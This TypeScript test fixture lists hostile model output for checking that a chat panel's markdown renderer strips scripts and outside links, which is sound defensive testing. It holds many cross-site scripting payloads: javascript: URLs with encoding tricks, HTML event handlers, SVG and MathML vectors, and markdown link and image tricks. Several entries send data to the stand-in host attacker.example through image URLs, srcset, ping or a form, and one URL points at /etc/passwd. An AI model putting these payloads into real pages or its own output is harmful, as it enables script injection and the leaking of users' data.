/**
 * Hostile model output: each entry must render with no script, no handler, no
 * embedded content, no style and no link outside http(s)/mailto. Exported for the
 * end-to-end test that renders them in the real panel.
 */
const JS_URLS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)',
  'java\nscript:alert(1)', 'javascript&#58;alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)', 'jav&#x09;ascript:alert(1)', '%6Aavascript:alert(1)', 'javascript%3Aalert(1)',
  '\u0001javascript:alert(1)', 'vbscript:msgbox(1)', 'VBScript:msgbox(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'DATA:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd', 'chrome://settings', 'about:blank', 'blob:https://x.example/1', '//attacker.example/x',
  '/relative/path', 'jar:https://x.example!/', 'ftp://attacker.example/', 'javascript://%0Aalert(1)',
  'livescript:alert(1)', 'javas\u200Bcript:alert(1)', 'javascript\\:alert(1)',
];

const linkForms = (url: string) => [
  `[click](${url})`,
  `[click](<${url}>)`,
  `[ref][r]\n\n[r]: ${url}`,
  `<${url}>`,
  `![x](${url})`,
];

const RAW_HTML = [
  '<script>alert(1)</script>', '<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">click</math>', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="https://attacker.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>', '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{display:none}</style>', '<link rel=stylesheet href=https://attacker.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="https://attacker.example/">',
  '<form action="https://attacker.example"><input name=k><button>go</button></form>', '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>', '<body onload=alert(1)>', '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<x onclick=alert(1)>click</x>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="x"?>',
  '<img src=x onerror=alert(1)//', '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</script>',
  '<div>\n\n<img src=x onerror=alert(1)>\n\n</div>', '<pre>\n\n<img src=x onerror=alert(1)>\n\n</pre>',
  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>', '<p style="position:fixed;inset:0">cover</p>',
  '<button formaction="javascript:alert(1)">x</button>', '<isindex action=javascript:alert(1) type=image>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"/></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>', '<img srcset="https://attacker.example/?q=secret 1x">',
  '<picture><source srcset="https://attacker.example/p.png"><img></picture>', '<a ping="https://attacker.example/" href="https://ok.example">x</a>',
];

const ENCODED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '&#x3C;svg onload=alert(1)&#x3E;',
  '\\<script>alert(1)\\</script>', '`<script>alert(1)</script>`', '```html\n<script>alert(1)</script>\n```',
  '    <img src=x onerror=alert(1)>', '**<img src=x onerror=alert(1)>**', '_<svg onload=alert(1)>_',
  '> <iframe src=javascript:alert(1)>', '- <object data=x>', '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| 1 | 2 |',
  '%3Cscript%3Ealert(1)%3C/script%3E', '\u003cscript\u003ealert(1)\u003c/script\u003e', '＜script＞alert(1)＜/script＞',
];

const MARKDOWN_TRICKS = [
  '![x](https://attacker.example/?q=secret)', '![x](https://attacker.example/?q=secret "title")',
  '![x][img]\n\n[img]: https://attacker.example/?q=secret', '[![x](https://attacker.example/i.png)](https://ok.example)',
  '![x](data:image/png;base64,iVBORw0KGgo=)', '![<img src=x onerror=alert(1)>](https://attacker.example/a.png)',
  '![x](https://attacker.example/a.png" onerror="alert(1))', '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '[x](https://ok.example" onclick="alert(1))', '[x](javascript:alert(1) "t")', '[`x`](javascript:alert(1))',
  '[x]( javascript:alert(1) )', '[x](\njavascript:alert(1))', '[a](javascript:alert(1))[b](https://ok.example)',
  '[a][b]\n\n[b]: javascript:alert(1) "t"', '[a]\n\n[a]: <javascript:alert(1)>', '[a][B]\n\n[b]: vbscript:x',
  'www.attacker.example/?q=secret', 'https://attacker.example/?q=secret', 'mailto:a@b.example', '<mailto:a@b.example>',
  'x@y.example', '<https://ok.example/<script>>', '[x](https://ok.example/<script>alert(1)</script>)',
  '$$\\href{javascript:alert(1)}{x}$$', '$\\url{javascript:alert(1)}$', '$$\n\\htmlClass{x}{y}\\includegraphics{https://attacker.example/a.png}\n$$',
  '$\\style{color:red}{x}$', '\\[\\href{https://attacker.example}{x}\\]', '$<img src=x onerror=alert(1)>$',
  '```"><img src=x onerror=alert(1)>\ncode\n```', '```js onclick=alert(1)\nx\n```', '~~~<script>\nx\n~~~',
  '[x](https://ok.example)<img src=x onerror=alert(1)>', '**[x](javascript:alert(1))**', '> [x](javascript:alert(1))',
  '1. [x](javascript:alert(1))\n   ![y](https://attacker.example/?q=1)', '- [ ] <img src=x onerror=alert(1)>',
  '[x][y][z]\n\n[z]: javascript:alert(1)', '[x](#foo)', '[x](?q=1)', '[x](https://ok.example/%22onmouseover=alert(1))',
  '<a href="https://ok.example">[y](javascript:alert(1))</a>', '[<a href="javascript:alert(1)">x</a>](https://ok.example)',
  '![a](https://attacker.example/1) ![b](https://attacker.example/2) ![c](https://attacker.example/3)',
  '*' .repeat(50) + '<img src=x onerror=alert(1)>', '[' .repeat(30) + 'x](javascript:alert(1))',
  '**unclosed <script>alert(1)', '`unclosed <img src=x onerror=alert(1)>', '```\nunclosed <svg onload=alert(1)>',
];

export const HOSTILE_PAYLOADS: readonly string[] = [
  ...RAW_HTML,
  ...ENCODED,
  ...MARKDOWN_TRICKS,
  ...JS_URLS.flatMap(linkForms),
];
